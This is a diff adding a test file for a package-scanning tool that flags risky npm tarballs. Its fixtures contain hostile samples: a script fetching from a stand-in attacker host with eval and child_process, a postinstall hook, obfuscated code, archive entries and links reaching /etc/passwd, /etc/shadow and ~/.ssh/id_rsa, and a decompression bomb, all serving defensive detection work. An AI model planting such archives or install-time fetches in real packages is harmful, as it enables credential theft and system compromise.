@@ -1,0 +1,106 @@
+import { gzipSync } from 'node:zlib'
+import { expect, test } from 'vitest'
+import { type Artefact, artefactOf } from '../../../src/lab/artefact.ts'
+import { contentFindings } from '../../../src/lab/static/content-findings.ts'
+import { contentsOf } from '../../../src/lab/static/contents.ts'
+import { repositoryKey } from '../../../src/lab/static/manifest.ts'
+import { signsOf } from '../../../src/lab/static/source-signs.ts'
+import { tarball } from '../../support/tarball.ts'
+import { aPackage } from '../support.ts'
+
+test('a plain package is plain', async () => {
+  const { words, contents } = await read(aPackage('plain', {}, { 'index.js': 'export const one = 1\n' }))
+  expect(words).toEqual([])
+  expect(contents).toMatchObject({ files: 2, dependencies: 0, notInTag: null, cut: null })
+})
+
+test('scripts, binaries, unreadable code and what is not in the tag are named', async () => {
+  const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(60)])
+  const manifest = {
+    name: 'rich',
+    version: '1.0.0',
+    scripts: { postinstall: 'node run.js', test: 'x' },
+    dependencies: { a: '1' },
+  }
+  const archive = tarball({
+    'package.json': JSON.stringify(manifest),
+    'addon.node': elf,
+    'run.js': `eval(x); require('child_process'); fetch('https://evil.example/x'); connect('http://198.18.7.7/')`,
+    'hidden.js': Array.from({ length: 20 }, (_, index) => `var _0x${(4096 + index).toString(16)} = 1`).join(
+      '\n',
+    ),
+    'dist/min.js': 'a();'.repeat(2000),
+  })
+  const { words, contents } = await read(archive, new Set(['package.json', 'run.js']))
+  expect(words).toEqual([
+    'severe: Obfuscated code: hidden.js',
+    'notice: Runs on install: postinstall: node run.js',
+    'notice: Ships machine code: addon.node (ELF binary)',
+    'notice: Names bare addresses: 198.18.7.7',
+    'notice: Not in the tagged source: addon.node, hidden.js',
+    'info: Minified code: dist/min.js',
+    'info: Makes code of text: run.js',
+    'info: Can start processes: run.js',
+    'info: Can use the network: run.js',
+  ])
+  expect(contents.domains).toEqual(['198.18.7.7', 'evil.example'])
+})
+
+test('an addon without a script is compiled by npm all the same', async () => {
+  const { contents } = await read(aPackage('addon', {}, { 'binding.gyp': '{}' }))
+  expect(contents.installScripts).toEqual(['install: node-gyp rebuild'])
+})
+
+test.each([
+  [
+    'a path that leads out',
+    tarball({ '../../etc/passwd': 'x' }),
+    /Hostile archive: .*leads out of the archive/,
+  ],
+  ['an absolute path', tarball({ '/etc/passwd': 'x' }, ''), /Hostile archive: .*leads out of the archive/],
+  [
+    'a link that leads out',
+    tarball({ 'a.js': { type: 'SymbolicLink', linkpath: '../../.ssh/id_rsa' } }),
+    /Hostile archive: a.js is a link to ..\/..\/.ssh\/id_rsa, out of its folder/,
+  ],
+  [
+    'a hard link that leads out',
+    tarball({ 'a.js': { type: 'Link', linkpath: '/etc/shadow' } }),
+    /out of its folder/,
+  ],
+  ['a device', tarball({ disk: { type: 'BlockDevice' } }), /disk is neither file nor folder/],
+  ['a decompression bomb', gzipSync(Buffer.alloc(60_000_000)), /unpacks to more than/],
+  ['no archive at all', Buffer.from('hello'), /damaged/],
+])('%s ends as a finding', async (_, archive, expected) => {
+  const { words } = await read(archive)
+  expect(words.filter((line) => line.startsWith('severe'))).toEqual([expect.stringMatching(expected)])
+})
+
+test.each([
+  ['const x = retrieval(1)', { eval: false }],
+  ['const f = new Function("return 1")', { eval: true }],
+  ['object.fetch(1)', { network: false }],
+  ["import net from 'node:net'", { network: true }],
+  ["eval(atob('YWxlcnQoMSk='))", { obfuscated: true }],
+  ['// see https://user:secret@host.example/path', { domains: ['host.example'] }],
+])('%s', (source, expected) => {
+  expect(signsOf(source)).toMatchObject(expected)
+})
+
+test.each([
+  ['git+https://github.com/Acme/widget.git', 'github.com/acme/widget'],
+  ['acme/widget', 'github.com/acme/widget'],
+  ['git@github.com:acme/widget.git', null],
+  ['git+ssh://git@github.com/acme/widget.git', 'github.com/acme/widget'],
+  ['https://github.com/acme/widget/tree/main/packages/x', 'github.com/acme/widget'],
+  [null, null],
+])('%s names the repository %s', (given, expected) => {
+  expect(repositoryKey(given)).toBe(expected)
+})
+
+async function read(archive: Uint8Array, tagged: ReadonlySet<string> | null = null) {
+  const artefact: Artefact = await artefactOf('x', archive, [])
+  const contents = contentsOf(artefact.tarball, artefact.manifest, tagged)
+  const words = contentFindings(contents).map(({ severity, summary }) => `${severity}: ${summary}`)
+  return { contents, words }
+}
